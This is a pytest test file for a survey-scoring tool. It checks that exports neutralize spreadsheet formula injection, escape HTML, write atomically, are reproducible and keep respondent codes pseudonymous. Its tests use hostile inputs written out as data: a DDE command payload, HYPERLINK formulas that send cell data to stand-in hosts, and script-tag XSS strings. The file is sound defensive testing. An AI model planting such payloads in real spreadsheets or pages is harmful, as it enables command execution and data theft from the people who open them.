"""Safe outputs: formula injection neutralized in every spreadsheet-like output, every write
atomic (even under SIGKILL), the same inputs give the same bytes, respondent codes stay
pseudonymous, and the validation report escapes and suppresses small cells."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from rich.console import Console

from instrument.files import output_time, reproducible_zip, save_workbook
from instrument.form import load_form
from instrument.output import write_table
from instrument.returns import _identifying, read_returns
from instrument.scoring import score_command, score_returns

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "data_samples" / "returned"
SPEC = ROOT / "data_samples" / "form_member.yaml"
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture(scope="module")
def form():
    return load_form(SPEC)


@pytest.fixture(scope="module")
def scored(form) -> pd.DataFrame:
    return score_returns(read_returns([SAMPLES], form, jobs=1), form)


def console() -> Console:
    return Console(file=io.StringIO(), width=200)


# ----------------------------------------------------------------------------- formula injection
@pytest.mark.parametrize("prefix", PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_every_formula_prefix_is_neutralized_in_codes_and_free_text(tmp_path, scored, prefix, suffix):
    table = scored.copy()
    code = prefix + "cmd|' /C calc'!A0"
    text = prefix + 'HYPERLINK("http://example.com/?q="&A1,"ici")'
    table.loc[0, "respondent"] = code
    table.loc[1, "consortium_id"] = text
    path = write_table(table, tmp_path / f"scores{suffix}")
    if suffix == ".csv":
        with open(path, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        got_code, got_text = rows[0]["respondent"], rows[1]["consortium_id"]
    else:
        ws = openpyxl.load_workbook(path)["data"]
        header = [c.value for c in ws[1]]
        cell_code = ws.cell(2, header.index("respondent") + 1)
        cell_text = ws.cell(3, header.index("consortium_id") + 1)
        assert cell_code.data_type == "s" and cell_text.data_type == "s"
        got_code, got_text = cell_code.value, cell_text.value
        # XML reads a carriage return in text back as a line feed (end-of-line normalization)
        code, text = code.replace("\r", "\n"), text.replace("\r", "\n")
        with zipfile.ZipFile(path) as z:
            assert not any(re.search(rb"<f[\s>]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert got_code == "'" + code and got_text == "'" + text
    # numbers, including negative ones, are never touched
    assert table["trust"].dtype.kind == "f"


@pytest.fixture(scope="module")
def hostile_form(form):
    """The sample form with texts a custom bank or a spec could give: starting like formulas, with markup."""
    first = form.item_ids[0]
    texts = dict(form.texts)
    texts[first] = {"fr": '=HYPERLINK("http://evil.example","clic") <script>alert(1)</script>',
                    "en": "@SUM(1+1)*cmd|' /C calc'!A0"}
    title = {"fr": "=1+1 <b>titre</b>", "en": "+33 6 12 34 56 78"}
    return dataclasses.replace(form, texts=texts, title=title), first


def test_platform_exports_mask_formula_texts(tmp_path, hostile_form):
    from instrument.export import limesurvey, redcap

    hform, first = hostile_form
    path = redcap.write(hform, tmp_path / "redcap_fr.csv", lang="fr")[0]
    with open(path, encoding="utf-8", newline="") as fh:
        rows = {r["Variable / Field Name"]: r for r in csv.DictReader(fh)}
    assert rows[first]["Field Label"] == "'" + hform.texts[first]["fr"]
    assert rows[first]["Text Validation Min"] == ""  # only text columns are masked
    path = redcap.write(hform, tmp_path / "redcap_en.csv", lang="en")[0]
    with open(path, encoding="utf-8", newline="") as fh:
        rows = {r["Variable / Field Name"]: r for r in csv.DictReader(fh)}
    assert rows[first]["Field Label"] == "'" + hform.texts[first]["en"]
    path = limesurvey.write(hform, tmp_path / "lime.txt")[0]
    with open(path, encoding="utf-8-sig", newline="") as fh:
        texts = [r[6] for r in csv.reader(fh, delimiter="\t")]
    assert "'" + hform.texts[first]["fr"] in texts and hform.texts[first]["fr"] not in texts
    assert "'=1+1 <b>titre</b>" in texts


def test_workbook_exports_write_formula_like_texts_as_text(tmp_path, hostile_form):
    from instrument.export import grid, xlsform, xlsx

    hform, first = hostile_form
    written = [*xlsx.write(hform, tmp_path / "q.xlsx", lang="fr"), *grid.write(hform, tmp_path / "g.xlsx", lang="fr"),
               *xlsform.write(hform, tmp_path / "x.xlsx")]
    seen = 0
    for path in written:
        with zipfile.ZipFile(path) as z:
            for n in z.namelist():
                if n.startswith("xl/worksheets/"):
                    assert not re.search(rb"<f[\s>]", z.read(n)), (path.name, n)
        wb = openpyxl.load_workbook(path)
        for ws in wb:
            for row in ws.iter_rows():
                for c in row:
                    if c.value == hform.texts[first]["fr"] or c.value == "=1+1 <b>titre</b>":
                        assert c.data_type == "s"
                        seen += 1
    assert seen >= 3  # the texts are there, as text


def test_html_exports_escape_markup(tmp_path, hostile_form):
    from instrument.export import codebook, printed

    hform, _first = hostile_form
    html = codebook.write_html(hform, tmp_path / "codebook.html", lang="fr").read_text(encoding="utf-8")
    printed_html = printed.render(hform, lang="fr", paper="A4", version="A")
    for page in (html, printed_html):
        assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert "<b>titre</b>" not in page


# ----------------------------------------------------------------------------- atomic writes
def test_a_failing_export_leaves_the_previous_workbook(tmp_path, form, monkeypatch):
    from instrument.export import xlsx

    target = tmp_path / "q.xlsx"
    xlsx.write(form, target, lang="fr", version="A")
    before = target.read_bytes()

    def fail(self, filename):
        filename.write(b"PK\x03\x04 half a workbook") if hasattr(filename, "write") else Path(filename).write_bytes(b"x")
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", fail)
    with pytest.raises(OSError, match="disk full"):
        xlsx.write(form, target, lang="fr", version="A")
    assert target.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["q.xlsx"]


KILL_SCRIPT = textwrap.dedent("""
    import sys
    import numpy as np, pandas as pd
    from instrument.output import write_table
    out = sys.argv[1]
    write_table(pd.DataFrame({"respondent": ["R1", "R2"], "score": [1.5, 2.5]}), out)
    print("first", flush=True)
    rng = np.random.default_rng(1)
    n = int(sys.argv[2])
    big = pd.DataFrame({"respondent": [f"R{i}" for i in range(n)], **{f"q{j}": rng.integers(1, 6, n) for j in range(12)}})
    print("writing", flush=True)
    write_table(big, out)
    print("done", flush=True)
""")


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_process_killed_while_writing_leaves_the_previous_output(tmp_path, suffix):
    """SIGKILL while the big table is being written (its temporary file exists beside the
    target: CSV rows are streaming into it; the XLSX is being built, then zipped)."""
    out = tmp_path / f"scores{suffix}"
    rows = "400000" if suffix == ".csv" else "60000"
    with subprocess.Popen([sys.executable, "-c", KILL_SCRIPT, str(out), rows], stdout=subprocess.PIPE, text=True,
                          cwd=ROOT) as proc:
        try:
            assert proc.stdout.readline().strip() == "first"
            before = out.read_bytes()
            assert proc.stdout.readline().strip() == "writing"
            deadline = time.monotonic() + 60
            temps = []
            while time.monotonic() < deadline and not temps:  # until the temporary file is being filled
                temps = [p for p in tmp_path.iterdir() if p.name.startswith(f".{out.name}.")
                         and (suffix == ".xlsx" or p.stat().st_size > 0)]
                time.sleep(0.005)
            assert temps, "the writer never started"
            time.sleep(0.3 if suffix == ".xlsx" else 0)  # well inside the workbook's build
            assert proc.poll() is None, "the big table was written before the kill: make it bigger"
            proc.send_signal(signal.SIGKILL)
            proc.wait(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
    assert proc.returncode == -signal.SIGKILL
    assert out.read_bytes() == before  # the previous output, whole
    back = pd.read_csv(out) if suffix == ".csv" else pd.read_excel(out, sheet_name="data", engine="openpyxl")
    assert list(back["respondent"]) == ["R1", "R2"]


# ----------------------------------------------------------------------------- determinism
FORMATS = (".csv", ".xlsx", ".sav", ".dta", ".parquet")


def test_score_outputs_are_byte_for_byte_reproducible(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    runs = []
    for k in range(2):
        folder = tmp_path / f"run{k}"
        for suffix in FORMATS:
            assert score_command([SAMPLES], form=SPEC, out=folder / f"scores{suffix}", jobs=1, console=console()) == 0
        runs.append({p.name: p.read_bytes() for p in sorted(folder.iterdir())})
        if k == 0:
            time.sleep(1.1)  # the .sav header has a one-second clock
    assert runs[0].keys() == runs[1].keys() and len(runs[0]) == len(FORMATS) + 1  # the tables and the log
    for name in runs[0]:
        assert runs[0][name] == runs[1][name], name
    with zipfile.ZipFile(io.BytesIO(runs[0]["scores.xlsx"])) as z:
        core = z.read("docProps/core.xml")
        assert b"1980-01-01T00:00:00Z" in core and all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in z.infolist())
    assert b"01 Jan 8000:00:00" in runs[0]["scores.sav"][:200]


def test_source_date_epoch_is_the_date_written(monkeypatch, tmp_path):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01 00:00 UTC
    assert output_time().isoformat() == "2026-01-01T00:00:00"
    wb = openpyxl.Workbook()
    wb.active["A1"] = "x"
    path = save_workbook(wb, tmp_path / "w.xlsx")
    with zipfile.ZipFile(path) as z:
        assert b"2026-01-01T00:00:00Z" in z.read("docProps/core.xml")
        assert {i.date_time for i in z.infolist()} == {(2026, 1, 1, 0, 0, 0)}
    write_table(pd.DataFrame({"a": [1.0]}), tmp_path / "t.sav")
    assert b"01 Jan 2600:00:00" in (tmp_path / "t.sav").read_bytes()[:200]
    data = path.read_bytes()
    assert reproducible_zip(data) == data  # idempotent


def test_simulated_workbooks_are_byte_for_byte_reproducible(tmp_path):
    from instrument.simulate import simulate_command

    runs = []
    for k in range(2):
        assert simulate_command(SPEC, n=6, out=tmp_path / f"sim{k}", seed=3, console=console()) == 0
        runs.append({p.name: p.read_bytes() for p in sorted((tmp_path / f"sim{k}").iterdir())})
        if k == 0:
            time.sleep(1.1)
    assert len(runs[0]) == 6 and runs[0] == runs[1]
    assert simulate_command(SPEC, n=6, out=tmp_path / "other", seed=4, console=console()) == 0
    assert {p.name: p.read_bytes() for p in sorted((tmp_path / "other").iterdir())} != runs[0]


# ----------------------------------------------------------------------------- validation report
@pytest.fixture(scope="module")
def validated(form, tmp_path_factory):
    """``intangibles validate`` run twice on the same simulated data: hostile respondent codes
    (markup, a formula) among straightliners, and a 3-respondent group."""
    import instrument.validation as validation
    from instrument.simulate import Design, simulate

    sample = simulate(form, 160, seed=7, design=Design(careless=0.05, careless_kinds=("straightlining",)))
    data = sample.responses.copy()
    data["site"] = ["north"] * 90 + ["south"] * 67 + ["tiny"] * 3
    codes = list(data["respondent"])
    answers = data[list(form.item_ids)].astype("float64")
    answers = answers.where(~answers.isin([8, 9]))
    flagged = list(np.flatnonzero((answers.nunique(axis=1) == 1).to_numpy()))
    assert flagged, "the design plants straightliners"
    codes[flagged[0]] = "<script>alert('x')</script>"
    if len(flagged) > 1:
        codes[flagged[1]] = '=HYPERLINK("http://evil")'
    data["respondent"] = codes
    folder = tmp_path_factory.mktemp("validate")
    path = folder / "answers.csv"
    data.to_csv(path, index=False)
    mp = pytest.MonkeyPatch()
    mp.setattr(validation, "render_pdf", lambda html: b"%PDF-1.7 (not rendered in this test)")
    try:
        outs = []
        for k in range(2):
            out = folder / f"report{k}"
            assert validation.validate_command(path, form=SPEC, out=out, groups=["site"], lang="en",
                                               console=console(), n_boot=30) == 0
            outs.append(out)
    finally:
        mp.undo()
    return outs


def _numbers(value):
    if isinstance(value, dict):
        return {k: _numbers(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_numbers(v) for v in value]
    return value


@pytest.mark.slow
def test_validate_results_are_reproducible(validated):
    first, second = (json.loads((out / "results.json").read_text(encoding="utf-8")) for out in validated)
    assert _numbers(first) == _numbers(second)
    assert (validated[0] / "results.json").read_bytes() == (validated[1] / "results.json").read_bytes()
    assert first["n"] > 100 and first["scales"]


@pytest.mark.slow
def test_report_escapes_hostile_codes_and_suppresses_small_groups(validated):
    html = (validated[0] / "report.html").read_text(encoding="utf-8")
    assert "<script>alert('x')</script>" not in html
    results = json.loads((validated[0] / "results.json").read_text(encoding="utf-8"))
    listed = {r["respondent"] for r in results["flags"]["respondents"]}
    assert "<script>alert('x')</script>" in listed  # kept as typed in results.json...
    assert "&lt;script&gt;alert(" in html  # ...and escaped in the report
    # the 3-respondent group: never its count or percentages in a group table
    rows = re.findall(r"<tr><th scope=\"row\">tiny</th>(.*?)</tr>", html)
    assert rows
    for row in rows:
        cells = re.findall(r"<td[^>]*>(.*?)</td>", row)
        assert all(c == "&lt;\u00a05" for c in cells), cells
    assert "tiny" in html


# ----------------------------------------------------------------------------- pseudonymous codes
@pytest.mark.parametrize(
    ("code", "kind"),
    [("marie.tremblay@example.org", "e-mail"), ("m.cote@cisss.gouv.qc.ca", "e-mail"),
     ("514 555-1234", "phone"), ("+1 (514) 555-1234", "phone"), ("+33 6 12 34 56 78", "phone"),
     ("5145551234", "phone"), ("Marie Tremblay", "name"), ("Jean-François Côté", "name"),
     ("O'Neil Smith", "name"),
     ("R101", ""), ("G201", ""), ("1203", ""), ("2024-0001", ""), ("member_grid_fr-row7", ""), ("R 101", ""),
     ("A-12 B", ""), ("RC02", ""), ("", "")],
)
def test_identifying_codes(code, kind):
    found = _identifying(code)
    assert (kind in found) if kind else found == ""


def test_identifying_codes_are_warned_in_the_log_without_repeating_them(form, tmp_path):
    header = ["respondent", "consortium_id", *form.item_ids]
    lines = [";".join(header)] + [";".join([c, "RC1", *["3"] * len(form.item_ids)]) for c in
                                  ("jo@example.org", "418 555 0199", "Luc Gagnon", "R77")]
    (tmp_path / "entry.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    returned = read_returns([tmp_path], form, jobs=1)
    warned = [p for p in returned.problems if p.code == "identifying-respondent-code"]
    assert len(warned) == 3 and all(p.severity == "warning" for p in warned)
    assert returned.n_scored == 1 and len(returned.responses) == 4  # a warning, the rows kept
    for p, secret in zip(warned, ("jo@example.org", "418 555 0199", "Luc Gagnon"), strict=True):
        assert secret not in p.message and "pseudonym" in p.message
    assert np.array_equal(returned.responses["respondent"].to_numpy(), np.array(["jo@example.org", "418 555 0199",
                                                                                "Luc Gagnon", "R77"], dtype=object))


def test_output_paths_are_written_only_where_asked(tmp_path, monkeypatch):
    """Atomic writes create their temporary file beside the target, never elsewhere."""
    created = []
    real = os.replace

    def spy(src, dst):
        created.append((Path(src).parent, Path(dst).parent))
        return real(src, dst)

    monkeypatch.setattr(os, "replace", spy)
    write_table(pd.DataFrame({"a": [1]}), tmp_path / "sub" / "t.csv")
    assert created == [(tmp_path / "sub", tmp_path / "sub")]


@pytest.mark.parametrize("suffix", [".sav", ".dta", ".parquet"])
def test_formula_like_text_is_neutralized_in_every_format(tmp_path, suffix):
    """SPSS, Stata and Parquet outputs end up in Excel too (SPSS's Export to Excel, to_excel):
    formula-like text gets the same leading apostrophe as in CSV and XLSX (issue 14)."""
    from instrument.datafile import read_data

    df = pd.DataFrame({"respondent": ['=HYPERLINK("http://x","y")', "+W05", "R1"], "a": [1.0, 2.0, 3.0]})
    path = tmp_path / f"t{suffix}"
    write_table(df, path)
    back = pd.read_stata(path) if suffix == ".dta" else read_data(path)
    assert list(back["respondent"]) == ['\'=HYPERLINK("http://x","y")', "'+W05", "R1"]
